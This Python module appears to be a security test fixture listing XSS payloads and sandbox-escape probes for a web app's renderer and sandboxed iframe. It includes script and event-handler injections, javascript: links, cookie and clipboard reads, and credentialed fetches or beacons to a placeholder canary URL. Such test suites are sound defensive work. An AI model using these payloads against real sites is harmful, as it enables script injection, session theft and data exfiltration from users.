"""Hostile content, by name. ``CALL`` becomes a call of the canary, ``URL`` its address.

``MARKUP`` is tried wherever a person's words are shown, and as a text/html output;
``IN_FRAME`` runs in the sandbox on purpose and tries to get out of it.
"""

MARKUP: dict[str, str] = {
    "script": "<script>CALL</script>",
    "script_src": "<script src='URL/script.js'></script>",
    "script_module": "<script type=module>import 'URL/module.js'</script>",
    "script_case": "<ScRiPt>CALL</sCrIpT>",
    "script_broken": "<scr<script>ipt>CALL</scr</script>ipt>",
    "script_close": "</script><script>CALL</script>",
    "textarea_close": "</textarea><img src=x onerror=CALL>",
    "title_close": "</title></style><img src=x onerror=CALL>",
    "img": "<img src=x onerror=CALL>",
    "img_quote": "\"><img src=x onerror='CALL'>",
    "img_slash": "<img/src=x/onerror=CALL>",
    "img_srcset": "<img srcset=x onerror=CALL>",
    "img_fetch": "<img src=URL/img>",
    "svg": "<svg onload=CALL>",
    "svg_script": "<svg><script>CALL</script></svg>",
    "svg_animate": "<svg><animate onbegin=CALL attributeName=x dur=1s></svg>",
    "svg_foreign": "<svg><foreignObject><img src=x onerror=CALL></foreignObject></svg>",
    "svg_link": "<svg><a xlink:href='javascript:CALL'><text y=20>link</text></a></svg>",
    "svg_use": "<svg><use href='URL/use.svg#x'/></svg>",
    "svg_data": "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' "
    'onload=CALL></svg>">',
    "math": "<math><mtext><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
    "onerror=CALL&gt;'>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=CALL>'>",
    "template": "<template><img src=x onerror=CALL></template>",
    "details": "<details open ontoggle=CALL><summary>more</summary></details>",
    "input": "<input autofocus onfocus=CALL>",
    "select": "<select autofocus onfocus=CALL></select>",
    "unknown_focus": "<x id=x tabindex=1 autofocus onfocus=CALL>x</x>",
    "video": "<video><source onerror=CALL></video>",
    "audio": "<audio src=x onerror=CALL>",
    "object": "<object data='javascript:CALL'></object>",
    "object_fetch": "<object data='URL/object'></object>",
    "embed": "<embed src='javascript:CALL'>",
    "iframe_srcdoc": "<iframe srcdoc='<script>parent.CALL</script>'></iframe>",
    "iframe_script": "<iframe src='javascript:parent.CALL'></iframe>",
    "iframe_fetch": "<iframe src='URL/iframe'></iframe>",
    "link_script": "<a href='javascript:CALL'>link</a>",
    "link_data": "<a href='data:text/html,<script>opener.CALL</script>' target=_blank>link</a>",
    "link_target": "<a href='URL/link' target=_top>link</a>",
    "form": "<form action='javascript:CALL'><button>send</button></form>",
    "form_action": "<button formaction='javascript:CALL'>send</button>",
    "base": "<base href='URL/base/'>",
    "meta": "<meta http-equiv=refresh content='0;url=javascript:CALL'>",
    "stylesheet": "<link rel=stylesheet href='URL/sheet.css'>",
    "prefetch": "<link rel=prefetch href='URL/prefetch'>",
    "style_import": "<style>@import url(URL/import.css);</style>",
    "style_background": "<style>* { background: url(URL/background) }</style>",
    "style_hide": "<style>.helpout-pane { display: none !important }</style>",
    "style_attribute": "<div style='background:url(URL/attribute);position:fixed;inset:0'>x</div>",
    "style_escape": "<style></style><p>\\3c script>CALL\\3c /script></p>",
    "animation": "<style>@keyframes x{}</style><b style='animation-name:x' "
    "onanimationstart=CALL>x</b>",
    "marquee": "<marquee onstart=CALL>x</marquee>",
    "popover": "<button popovertarget=p>x</button><p popover id=p onbeforetoggle=CALL>x</p>",
    "entities": "&lt;img src=x onerror=CALL&gt;",
    "percent": "%3Cimg%20src=x%20onerror=CALL%3E",
    "unicode": "\\u003cimg src=x onerror=CALL\\u003e",
    "template_string": "${CALL}",
    "braces": "{{constructor.constructor('CALL')()}}",
    "jsx": "{CALL}",
    "markdown_link": "[link](javascript:CALL)",
    "markdown_image": "![x](x'onerror='CALL)",
    "latex": "$\\href{javascript:CALL}{x}$",
    "plain_address": "javascript:CALL",
    "ansi": "\x1b[31m<img src=x onerror=CALL>\x1b[0m\x1b]8;;javascript:CALL\x07link\x1b]8;;\x07",
    "direction": "\u202e<img src=x onerror=CALL>",
}

IN_FRAME: dict[str, str] = {
    "origin": "tell(self.origin)",
    "cookie": "tell(document.cookie)",
    "cookie_write": "document.cookie = 'stolen=1; path=/'; tell('wrote')",
    "storage": "tell(localStorage.length)",
    "database": "tell(indexedDB.open('x') && 'opened')",
    "parent_document": "tell(parent.document.title)",
    "parent_canary": "parent.CALL; tell('called')",
    "top_location": "tell(top.location.href)",
    "parent_script": "parent.location = 'javascript:CALL'; no('silence')",
    "top_away": "top.location = 'URL/top'; no('silence')",
    "open": "open('URL/open') ? tell('opened') : no('null')",
    "frame_element": "frameElement ? tell('element') : no('null')",
    "sibling": "tell(top.frames[0].frames[0].document.body.innerHTML)",
    "fetch_page": "fetch(PAGE, {credentials: 'include'}).then((r) => tell(r.status), (e) => no(e))",
    "fetch_out": "fetch('URL/fetch').then((r) => tell(r.status), (e) => no(e))",
    "beacon": "navigator.sendBeacon('URL/beacon'); no('sent nowhere')",
    "socket": "new WebSocket('URL/socket'.replace('http', 'ws')).onopen = () => tell('open'); "
    "no('no answer')",
    "worker": "new Worker('URL/worker.js').onmessage = () => tell('works'); no('no answer')",
    "import": "import('URL/import.js').then(() => tell('imported'), (e) => no(e))",
    "image": "const i = new Image(); i.onload = () => tell('loaded'); i.onerror = () => "
    "no('blocked'); i.src = 'URL/image'",
    "frame": "const f = document.createElement('iframe'); f.src = 'URL/inner'; "
    "document.body.append(f); no('added')",
    "form": "const f = document.createElement('form'); f.action = 'URL/form'; "
    "document.body.append(f); f.submit(); no('sent')",
    "link_top": "const a = document.createElement('a'); a.href = 'URL/link_top'; a.target = "
    "'_top'; document.body.append(a); a.click(); no('clicked')",
    "dialog": "alert('boo'); prompt('password?') ? tell('word') : no('null')",
    "call_out": "const p = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:9'}]}); "
    "p.createDataChannel('x'); p.setLocalDescription().then(() => tell('called'), no)",
    "transport": "new WebTransport('URL/transport'.replace('http:', 'https:')).ready.then("
    "() => tell('open'), no); no('no answer')",
    "frame_within": "const f = document.createElement('iframe'); f.srcdoc = "
    "`<script>parent.postMessage(typeof RTCPeerConnection, '*')</${'script'}>`; "
    "onmessage = (e) => e.source !== parent && tell(e.data); document.body.append(f); "
    "setTimeout(() => no('silence'), 500)",
    "frame_in_shadow": "const h = document.createElement('p'); document.body.append(h); "
    "const f = document.createElement('iframe'); f.srcdoc = "
    "`<script>parent.postMessage(typeof RTCPeerConnection, '*')</${'script'}>`; "
    "onmessage = (e) => e.source !== parent && tell(e.data); "
    "h.attachShadow({mode: 'closed'}).append(f); setTimeout(() => no('silence'), 500)",
    "rewritten": "document.write('<h1>mine</h1>'); tell('written')",
    "opener": "opener ? tell('opener') : no('null')",
    "event_source": "new EventSource('URL/events').onopen = () => tell('open'); no('no answer')",
    "font": "new FontFace('x', 'url(URL/font)').load().then(() => tell('font'), no)",
    "ready_again": "parent.postMessage({type: 'helpouts.gone'}, 'null'); no('sent')",
    "camera": "navigator.mediaDevices.getUserMedia({video: true}).then(() => tell('camera'), "
    "(e) => no(e))",
    "clipboard": "navigator.clipboard.readText().then((t) => tell(t), (e) => no(e))",
    "domain": "document.domain = '127.0.0.1'; tell('set')",
    "channel": "new BroadcastChannel('helpouts').postMessage('x'); no('own origin')",
    "flood": "for (let i = 0; i < 3000; i++) parent.postMessage({type: 'helpouts.height', "
    "height: i % 2 ? 1e9 : -i}, '*'); no('sent')",
    "flood_odd": "for (const m of [null, 1, 'x', [], {type: 1}, {type: 'helpouts.height', height: "
    "'1'}, {type: 'helpouts.height', height: NaN}, {type: 'helpouts.render', html: "
    "'<img src=x onerror=CALL>'}, {type: 'helpouts.ready'}]) parent.postMessage(m, '*'); "
    "no('sent')",
}
"""``tell`` says that it got something, ``no`` that it was refused; what is thrown is a refusal."""


def filled(payload: str, name: str, url: str, page: str = "") -> str:
    """The payload, with what it calls."""
    return payload.replace("CALL", f"pwn(`{name}`)").replace("URL", url).replace("PAGE", repr(page))


def framed(name: str, url: str, page: str) -> str:
    """A text/html output that runs one of ``IN_FRAME`` and says how it went."""
    code = filled(IN_FRAME[name], f"escaped:{name}", url, page)
    return (
        "<script>(() => {"
        f"const tell = (what) => pwn(`got:{name}:${{what}}`);"
        f"const no = (what) => pwn(`refused:{name}:${{what}}`);"
        f"try {{ {code} }} catch (error) {{ no(error.name) }}"
        "})()</script>"
    )


def packed(limit: int, url: str) -> list[str]:
    """All payloads, as many as fit into one text, a line each."""
    texts: list[str] = []
    for name, payload in MARKUP.items():
        line = filled(payload, name, url)
        # The server takes no control characters in words; outputs may have them.
        if len(line) > limit or not line.isprintable():
            continue
        if texts and len(texts[-1]) + 1 + len(line) <= limit:
            texts[-1] += "\n" + line
        else:
            texts.append(line)
    return texts
